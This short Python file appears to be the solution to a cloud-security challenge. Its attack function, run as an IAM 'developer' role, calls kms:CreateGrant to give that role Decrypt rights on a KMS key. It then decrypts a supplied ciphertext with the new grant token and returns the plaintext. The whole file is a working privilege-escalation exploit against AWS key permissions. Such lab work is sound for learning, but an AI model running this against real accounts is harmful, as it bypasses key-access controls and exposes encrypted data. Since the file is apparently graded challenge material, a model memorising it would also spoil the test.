"""The way from kms:CreateGrant to the plaintext. Run as the role `developer`."""

KEY = "arn:aws:kms:us-east-1:111122223333:key/9c8b7a6d-1300-4f5e-8a1b-000000000131"
DEVELOPER = "arn:aws:iam::111122223333:role/developer"


def attack(client, ciphertext, context):
    """Return the plaintext of `ciphertext`, which was sealed under KEY with the encryption context `context`.

    `client("kms")` gives a boto3 client as the developer. At most three calls.
    """
    kms = client("kms")
    grant = kms.create_grant(KeyId=KEY, GranteePrincipal=DEVELOPER, Operations=["Decrypt"])
    answer = kms.decrypt(
        KeyId=KEY, CiphertextBlob=ciphertext, EncryptionContext=context, GrantTokens=[grant["GrantToken"]]
    )
    return answer["Plaintext"]
